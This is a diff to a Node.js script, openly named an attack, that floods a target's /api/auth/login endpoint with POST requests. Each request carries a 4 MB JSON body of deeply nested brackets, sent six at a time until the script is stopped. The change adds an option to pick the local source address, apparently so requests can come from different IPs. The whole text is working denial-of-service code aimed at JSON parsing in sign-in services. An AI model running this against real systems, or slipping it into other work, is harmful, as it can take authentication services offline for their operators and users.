@@ -1,7 +1,7 @@
 // Sends nested brackets to the sign-in until it is stopped, and then prints how many bodies it sent.
 import { request } from 'node:http';
 
-const [, , url] = process.argv;
+const [, , url, localAddress] = process.argv;
 const half = 2_000_000;
 const body = Buffer.from('['.repeat(half) + ']'.repeat(half));
 const atOnce = 6;
@@ -10,6 +10,7 @@ let sent = 0;
 function attack() {
   const outgoing = request(`${url}/api/auth/login`, {
     method: 'POST',
+    localAddress,
     headers: { 'content-type': 'application/json', 'content-length': body.length },
   });
   let over = false;
